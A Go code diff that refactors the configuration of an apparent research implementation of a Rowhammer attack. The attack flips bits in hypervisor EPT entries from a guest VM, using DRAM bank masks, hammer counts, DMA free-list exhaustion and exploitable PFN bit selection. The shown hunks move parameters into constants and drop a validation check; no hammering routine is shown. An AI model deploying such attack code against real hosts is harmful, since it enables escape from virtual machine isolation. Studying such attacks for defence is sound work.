@@ -38,15 +38,9 @@ type Config struct {
 	// Only bits below 21 matter to the attacker: within a THP-backed
 	// hugepage they determine relative bank equality.
 	BankMasks []uint64
-	// RowShift is the lowest physical address bit of the DRAM row
-	// number (18 on both evaluated machines), also recovered offline.
-	RowShift uint
 	// HammerRounds is the activation count per hammer pattern
 	// (250,000 in the evaluation).
 	HammerRounds int
-	// StabilityRetests is how many re-hammers a bit must survive to
-	// be considered stable.
-	StabilityRetests int
 	// HostMemBits is ceil(log2(host memory size)); flips above it in
 	// a PFN would point outside physical memory (Section 4.1). The
 	// attacker knows the machine's nominal memory size.
@@ -55,9 +49,6 @@ type Config struct {
 	// attempt (12 in the evaluation: 12 GiB of guest memory at 1 GiB
 	// per bit).
 	TargetBits int
-	// IOVABase is the first I/O virtual address used for free-list
-	// exhaustion (0x1_0000_0000 in the evaluation).
-	IOVABase memdef.IOVA
 	// IOVAMappings is the number of 2 MiB-spaced DMA mappings used to
 	// exhaust noise pages (60,000 in the evaluation).
 	IOVAMappings int
@@ -112,6 +103,24 @@ type Config struct {
 	Ledger *ledger.Recorder
 }
 
+// Fixed attack parameters, the same on both evaluated machines.
+const (
+	// rowShift is the lowest physical address bit of the DRAM row
+	// number, recovered offline like the bank function.
+	rowShift = 18
+	// rowSpan is the size of one DRAM row-span (the stride between
+	// consecutive row numbers), 256 KiB.
+	rowSpan = 1 << rowShift
+	// rowsPerHuge is how many row-spans one hugepage contains (8).
+	rowsPerHuge = memdef.HugePageSize / rowSpan
+	// stabilityRetests is how many re-hammers a bit must survive to be
+	// considered stable.
+	stabilityRetests = 3
+	// iovaBase is the first I/O virtual address used for free-list
+	// exhaustion.
+	iovaBase memdef.IOVA = 0x1_0000_0000
+)
+
 // PhaseBuckets is the attack_phase_seconds histogram layout: the
 // paper's phases span minutes (steering) to days (profiling).
 var PhaseBuckets = []float64{
@@ -140,14 +149,11 @@ func (c Config) observePhase(phase string, d time.Duration) {
 // 16 GiB host. bankMasks is the platform-specific bank function.
 func DefaultConfig(bankMasks []uint64) Config {
 	return Config{
-		BankMasks:        bankMasks,
-		RowShift:         18,
-		HammerRounds:     250_000,
-		StabilityRetests: 3,
-		HostMemBits:      34,
-		TargetBits:       12,
-		IOVABase:         0x1_0000_0000,
-		IOVAMappings:     60_000,
+		BankMasks:    bankMasks,
+		HammerRounds: 250_000,
+		HostMemBits:  34,
+		TargetBits:   12,
+		IOVAMappings: 60_000,
 	}
 }
 
@@ -155,9 +161,6 @@ func DefaultConfig(bankMasks []uint64) Config {
 func (c Config) Validate() error {
 	if len(c.BankMasks) == 0 {
 		return fmt.Errorf("attack: no bank masks configured")
-	}
-	if c.RowShift == 0 || c.RowShift >= memdef.HugePageShift {
-		return fmt.Errorf("attack: row shift %d outside hugepage", c.RowShift)
 	}
 	if c.HammerRounds <= 0 {
 		return fmt.Errorf("attack: hammer rounds %d", c.HammerRounds)
@@ -184,13 +187,6 @@ func (c Config) bankClass(off uint64) int {
 
 // bankClasses returns the number of distinguishable bank classes.
 func (c Config) bankClasses() int { return 1 << len(c.BankMasks) }
-
-// rowSpan returns the size of one DRAM row-span (the stride between
-// consecutive row numbers), 256 KiB on the evaluated machines.
-func (c Config) rowSpan() uint64 { return 1 << c.RowShift }
-
-// rowsPerHuge returns how many row-spans one hugepage contains (8).
-func (c Config) rowsPerHuge() int { return int(memdef.HugePageSize / c.rowSpan()) }
 
 // exploitableBit reports whether a flip at the given bit position of
 // an 8-byte-aligned group would usefully corrupt an EPTE: PFN bits
